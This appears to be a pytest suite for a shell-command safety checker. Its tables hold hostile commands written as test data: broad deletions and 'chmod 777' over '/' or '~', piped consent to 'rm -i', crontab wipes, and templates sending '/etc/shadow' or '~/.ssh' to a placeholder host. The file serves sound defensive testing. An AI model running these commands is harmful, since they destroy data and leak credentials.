"""The same harm is judged the same however it is reached; its harmless twin stays safe.

Commands are made from tables: what is done, to which files, and how a command gets there.
Nothing here is ever run.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable

import pytest

from failproof_es.shell_analysis import parse_commands
from failproof_es.shell_analysis.safety import judge_safety
from tests.every import every

DESTROYS = ("rm -f", "shred -u", "truncate -s 0", "cp /dev/null", "sed -i d", "sed -i '1,$d'",
            "sed -i 's/.*//'", "install -m 600 /dev/null", "perl -i -ne ''", "sponge",
            "dd if=/dev/null of=")  # fmt: skip
OPENS = ("chmod 777", "chmod a+rwx", "chmod o+w", "chmod 0666", "chmod ugo=rwx")
TWINS_OF_OPENS = ("chmod 644", "chmod u+w", "chmod go-w", "chmod 0755", "chmod a+r")

_ARGUMENT = '"$1"'
_LOOPED = '"$f"'
OPENS_AND_TWINS = list(zip(OPENS, TWINS_OF_OPENS, strict=True))
Reach = Callable[[str, str, str], str]
"""A command from a verb, a folder and the names in it that are meant."""


def _operand(verb: str, path: str) -> str:
    return f"{verb}{path}" if verb.endswith("=") else f"{verb} {path}"


REACHES: dict[str, Reach] = {
    "find -exec": lambda verb, folder, names: (
        f"find {folder} -type f {names} -exec {_operand(verb, '{}')} \\;"
    ),
    "find -exec sh -c": lambda verb, folder, names: (
        f"find {folder} -type f {names} -exec sh -c '{_operand(_requoted(verb), _ARGUMENT)}'"
        " _ {} \\;"
    ),
    "find | xargs -I": lambda verb, folder, names: (
        f"find {folder} -type f {names} | xargs -I% {_operand(verb, '%')}"
    ),
    "find | while read": lambda verb, folder, names: (
        f"find {folder} -type f {names} | while read -r f; do {_operand(verb, _LOOPED)}; done"
    ),
    "for in $(find)": lambda verb, folder, names: (
        f"for f in $(find {folder} -type f {names}); do {_operand(verb, _LOOPED)}; done"
    ),
    "while read < <(find)": lambda verb, folder, names: (
        f"while IFS= read -r f; do {_operand(verb, _LOOPED)}; done"
        f" < <(find {folder} -type f {names})"
    ),
    "sudo find -exec +": lambda verb, folder, names: (
        f"sudo find {folder} -type f {names} -exec {_operand(verb, '{}')} +"
    ),
}
PATTERNS: dict[str, Callable[[str, str], str]] = {
    "direct": lambda verb, pattern: _operand(verb, pattern),
    "loop": lambda verb, pattern: f"for f in {pattern}; do {_operand(verb, _LOOPED)}; done",
    "ls | xargs": lambda verb, pattern: f"ls -d {pattern} | xargs -I% {_operand(verb, '%')}",
    "echo | xargs": lambda verb, pattern: f"echo {pattern} | xargs -I% {_operand(verb, '%')}",
    "for in $(ls)": lambda verb, pattern: (
        f"for f in $(ls -d {pattern}); do {_operand(verb, _LOOPED)}; done"
    ),
    "sudo": lambda verb, pattern: f"sudo {_operand(verb, pattern)}",
    "bash -c": lambda verb, pattern: f"bash -c '{_operand(_requoted(verb), pattern)}'",
}


def _requoted(verb: str) -> str:
    return verb.replace("'1,$d'", "1,\\$d").replace("'s/.*//'", "s/.*//").replace(" ''", " 0")


def reasons(command: str) -> set[str]:
    return {reason.code.value for reason in judge_safety(command).reasons}


def require(broad: Iterable[str], harmless: Iterable[str], code: str = "DELETE_BROAD") -> None:
    """Require that the first are unsafe for this reason and the others safe; one process parses."""
    unsafe, safe = list(broad), list(harmless)
    parse_commands([*unsafe, *safe])
    assert [each for each in unsafe if code not in reasons(each)] == []
    assert [each for each in safe if reasons(each)] == []


@pytest.mark.parametrize("reach", REACHES)
@pytest.mark.parametrize("verb", DESTROYS)
@pytest.mark.thinned(fast=30, whole=77)
def test_destroying_a_tree_is_judged_by_its_place_however_it_is_reached(
    verb: str, reach: str
) -> None:
    make = REACHES[reach]
    harmless = ((".", "-name '*.tmp'"), ("./build", ""), ("/tmp", ""))
    require(
        (make(verb, folder, "") for folder in ("/", ".", "~", "/etc")),
        (make(verb, folder, names) for folder, names in harmless),
    )


@pytest.mark.parametrize("reach", PATTERNS)
@pytest.mark.parametrize("verb", [v for v in DESTROYS if not v.endswith("=")])
@pytest.mark.thinned(fast=30, whole=70)
def test_destroying_what_a_pattern_matches_is_judged_by_the_pattern(verb: str, reach: str) -> None:
    make = PATTERNS[reach]
    require(
        (make(verb, pattern) for pattern in ("*", "/*", "~/*", "./*")),
        (make(verb, pattern) for pattern in ("*.tmp", "build/*", "old.log", "/tmp/*")),
    )


@every("write", [">", ": >", "true >", "cat /dev/null >", "printf '' >", "echo >",
                                   "cat other >"])  # fmt: skip
def test_a_redirection_that_empties_what_a_pattern_matches_is_unsafe(write: str) -> None:
    appends = write.replace(">", ">>")
    require(
        (f'{files}; do {write} "$f"; done'
         for files in ("for f in *", "find . -type f | while read -r f")),
        (f'for f in *.tmp; do {write} "$f"; done', f"{write} app.log",
         f'for f in *; do {appends} "$f"; done'),
    )  # fmt: skip


@every("reach", REACHES)
@every(("verb", "twin"), OPENS_AND_TWINS)
def test_letting_everybody_write_in_a_tree_is_unsafe_however_it_is_reached(
    verb: str, twin: str, reach: str
) -> None:
    make = REACHES[reach]
    require(
        (make(verb, folder, "") for folder in ("/", ".", "~", "/var/www", "./public")),
        (make(twin, folder, "") for folder in (".", "/var/www", "./public")),
        "PERM_BROAD",
    )


@every("reach", PATTERNS)
@every(("verb", "twin"), OPENS_AND_TWINS)
def test_letting_everybody_write_what_a_pattern_matches(verb: str, twin: str, reach: str) -> None:
    make = PATTERNS[reach]
    require([make(verb, "*")], [make(verb, "run.sh"), make(twin, "*")], "PERM_BROAD")


PROGRAMS = {
    "DELETE_BROAD": (
        "perl -e 'unlink glob \"{}\"'",
        "perl -e 'unlink <{}>'",
        "perl -le 'for (glob(\"{}\")) {{ unlink $_ }}'",
        "python3 -c \"import os, glob; [os.remove(f) for f in glob.glob('{}')]\"",
        "python3 -c \"import os, glob; [os.truncate(f, 0) for f in glob.glob('{}')]\"",
        "python3 -c \"import glob; [open(f, 'w').close() for f in glob.glob('{}')]\"",
        "ruby -e 'Dir[\"{}\"].each {{ |f| File.delete(f) }}'",
        "ruby -e 'Dir.glob(\"{}\") {{ |f| File.truncate(f, 0) }}'",
        'php -r \'array_map("unlink", glob("{}"));\'',
        "node -e \"require('glob').globSync('{}').forEach(f => fs.unlinkSync(f))\"",
        "ls {} | perl -lne unlink",
        "ls -d {} | python3 -c 'import os, sys; [os.remove(l.strip()) for l in sys.stdin]'",
        "perl -e 'unlink @ARGV' {}",
        "ex -sc '%d|x' {}",
        "awk '{{print \"\" > FILENAME}}' {}",
    ),
    "PERM_BROAD": (
        "perl -e 'chmod 0777, glob \"{}\"'",
        "python3 -c \"import os, glob; [os.chmod(f, 0o777) for f in glob.glob('{}')]\"",
        "ruby -e 'File.chmod(0666, *Dir[\"{}\"])'",
    ),
}


@every(("code", "program"), [(c, p) for c in PROGRAMS for p in PROGRAMS[c]])
def test_a_program_in_another_language_is_judged_by_what_it_reaches(
    code: str, program: str
) -> None:
    broad, harmless = map(program.format, ("*", "/*")), map(program.format, ("*.tmp", "build/*.o"))
    require(broad, harmless, code)


@every(
    "command",
    [
        "python3 -c \"import os; [os.remove(f) for f in os.listdir('.') if f.endswith('.tmp')]\"",
        "python3 -c \"from pathlib import Path; [p.unlink() for p in Path('.').rglob('*.pyc')]\"",
        "perl -pi -e 's/a/b/' *",
        "perl -ne '/unlink/ && print' *",
        "perl -ne 'print if /chmod 777/' *",
        "sed -i '/^$/d' *",
        "sed -i 1d *",
        "sed -n -i p *",
        "for f in *; do cp \"$f\" \"$f.bak\"; done",
        "for f in *; do sort \"$f\" > \"out/$f\"; done",
        "truncate -s +1M *",
        "gzip *",
    ],
)  # fmt: skip
def test_changing_some_of_what_files_hold_destroys_nothing(command: str) -> None:
    assert not reasons(command)


CONSENTS = ("yes |", "yes y |", "echo y |", "printf 'y\\n' |", "yes | head -5 |")
REFUSES = ("", "yes n |", "echo n |")


@every("asks", ["rm -i *", "rm -ri .", "find . -ok rm {} \\;", "git clean -i"])
def test_a_question_that_a_pipe_consents_to_guards_nothing(asks: str) -> None:
    for answer in CONSENTS:
        assert reasons(f"{answer} {asks}"), f"{answer} {asks}"
    for answer in REFUSES:
        assert not reasons(f"{answer} {asks}"), f"{answer} {asks}"


@every("answer", CONSENTS)
@every("command", ["rm -i *.o", "cp -i a b", "apt install vim", "rm -ri build"])
def test_consent_to_something_harmless_is_harmless(answer: str, command: str) -> None:
    assert not reasons(f"{answer} {command}")


SENDERS = (
    "scp -r {} host:", "scp -P 22 -r {} user@host:/backup", "rsync -a {} host:",
    "rsync -aAX --exclude=/proc {} user@host:/b", "tar cz {} | ssh host 'cat > b.tgz'",
    "tar cf - {} | nc host 99", "rclone copy {} remote:b", "zip -r - {} | nc host 99",
    "lftp -e 'mirror -R {} /b' host", "sftp host <<< 'put -r {}'", "curl -T {} ftp://host/",
    "find {} -type f -exec curl -T {{}} http://host/ \\;",
    "find {} -type f -exec scp {{}} host: \\;",
    "tar czf /tmp/b.tgz {} && scp /tmp/b.tgz host:", "aws s3 cp --recursive {} s3://b",
)  # fmt: skip


@every("sender", SENDERS)
def test_a_copy_of_the_whole_system_or_of_secrets_to_another_host_is_unsafe(sender: str) -> None:
    require(
        map(sender.format, ("/", "/etc/shadow", "/etc", "~/.ssh")),
        map(sender.format, ("report.txt", "./build", "/srv/site", "/tmp/x")),
        "EXFILTRATE",
    )


@every(
    "command",
    ["rsync -a / /mnt/backup", "rsync -a host:/ /mnt/b", 'rsync -a "$from"/* host:',
     "lftp -e 'cd /; get x' host", "rclone copy remote:b /srv/b"],
)  # fmt: skip
def test_a_copy_that_stays_here_or_comes_here_is_no_leak(command: str) -> None:
    assert not reasons(command)


READS_AND_WRITES = (
    ("split {} part-", "split notes {}"),
    ("split -l 100 {} part-", "split -l 100 notes {}"),
    ("split -b 1M -d -a 3 {}", "split -b 1M -d -a 3 - {}"),
    ("csplit {} /x/", "csplit -f {} notes /x/"),
    ("cp {} notes", "cp notes {}"),
    ("cp -t backup {}", "cp -t {} notes"),
    ("sort {} -o notes", "sort notes -o {}"),
    ("sort {}", "sort -uo{} notes"),
    ("uniq {} notes", "uniq notes {}"),
    ("uniq -f 1 {}", "uniq -f 1 notes {}"),
    ("tee notes < {}", "tee {} < notes"),
    ("dd if={} of=notes", "dd if=notes of={}"),
    ("sed s/a/b/ {}", "sed -i s/a/b/ {}"),
    ("sed -n p {}", "sed --in-place=.bak -e s/a/b/ {}"),
    ("patch notes {}", "patch {} notes"),
    ("patch -o notes {}", "patch -o {} notes"),
    ("tar -cf notes.tar {}", "tar -cf {} notes"),
    ("tar cf notes.tar {}", "tar cf {} notes"),
    ("tar -tf {}", "tar -C {} -xf notes.tar"),
    ("zip notes.zip {}", "zip {} notes"),
    ("gzip -c {} > notes.gz", "gzip {}"),
    ("gzip -t {}", "gzip -9 {}"),
    ("xz -dc {}", "xz -T 2 {}"),
    ("ln -s {} notes", "ln -sf notes {}"),
    ("rsync {} notes", "rsync notes {}"),
    ("scp -P 22 host:notes notes", "scp -P 22 host:notes {}"),
    ("truncate -r {} notes", "truncate -r notes {}"),
    ("iconv -f latin1 {}", "iconv -f latin1 -o {} notes"),
    ("shuf {} -o notes", "shuf notes -o {}"),
    ("xxd {} notes", "xxd notes {}"),
    ("ssh-keygen -l -f {}", "ssh-keygen -f {}"),
    ("install -m 644 {} notes", "install -m 644 notes {}"),
    ("objcopy {} notes", "objcopy notes {}"),
)


@every(("reads", "writes"), READS_AND_WRITES)
def test_what_a_program_reads_is_not_what_it_writes(reads: str, writes: str) -> None:
    require(
        [writes.format("/etc/hosts")],
        [reads.format("/etc/hosts"), writes.format("there")],
        "SYSTEM_FILE_WRITE",
    )


@every(
    "table",
    ["echo '0 3 * * * backup' | crontab", "echo '0 3 * * * backup' | crontab -",
     "crontab - <<< '0 3 * * * backup'", "crontab -u bob - <<< '0 3 * * * backup'",
     "printf '0 3 * * * backup\\n' | sudo crontab -", "crontab < /dev/null", "crontab /dev/null"],
)  # fmt: skip
def test_a_crontab_that_standard_input_replaces_is_lost(table: str) -> None:
    assert "DELETE_BROAD" in reasons(table)


@every(
    "table",
    ["(crontab -l; echo '0 3 * * * backup') | crontab -", "crontab -l | sed s/a/b/ | crontab",
     "crontab jobs.cron", "crontab < jobs.cron", "cat a.cron b.cron | crontab -", "crontab -l"],
)  # fmt: skip
def test_a_crontab_that_is_extended_or_kept_in_a_file_is_not_lost(table: str) -> None:
    assert not reasons(table)


@every(
    ("command", "is_safe"),
    [
        ("find /tmp -mindepth 1 -delete", True),
        ("find /tmp -type f -delete", True),
        ("find /tmp -maxdepth 1 -delete", True),
        ("find /tmp -maxdepth 1 -type f -delete", True),
        ("find /tmp -mindepth 1 -maxdepth 1 -exec rm -rf {} +", True),
        ("find /tmp -delete", False),
        ("find /tmp -maxdepth 1 -exec rm -rf {} +", False),
        ("find /tmp -maxdepth 0 -exec rm -rf {} +", False),
        ("find /etc -mindepth 1 -delete", False),
        ("find / -type f -delete", False),
        ("find . -mindepth 1 -maxdepth 1 -delete", False),
        ("find ~ -mindepth 1 -delete", False),
    ],
)
def test_find_that_spares_its_start_is_judged_by_what_is_in_it(command: str, is_safe: bool) -> None:
    assert judge_safety(command).safe == is_safe


@every(
    "command",
    ["screen -x", "screen -x work", 'screen -x "$(screen -ls | grep work)"', 'screen -d -r "$1"',
     "screen -r $pid", "screen -dR $name"],
)  # fmt: skip
def test_a_session_of_screen_is_no_command(command: str) -> None:
    assert not reasons(command)
    assert reasons("screen -dm rm -rf /")


@every("folder", ["/var/www", "/srv/site", "/opt/app"])
def test_rights_of_what_a_service_owns_may_be_set_as_a_whole(folder: str) -> None:
    for rights in ("chmod -R 755 {}", "find {} -exec chmod 755 {{}} \\;",
                   "find {} -type d -exec chmod 755 {{}} +", "chmod 644 {}/*"):  # fmt: skip
        assert not reasons(rights.format(folder)), rights.format(folder)
    for rights in ("chmod -R 777 {}", "find {} -exec chmod 777 {{}} \\;"):
        assert "PERM_BROAD" in reasons(rights.format(folder)), rights.format(folder)


def test_a_path_that_is_fine_excuses_no_other() -> None:
    assert reasons("chmod 777 /tmp /etc")
    assert reasons("chown -R bob /srv /usr")
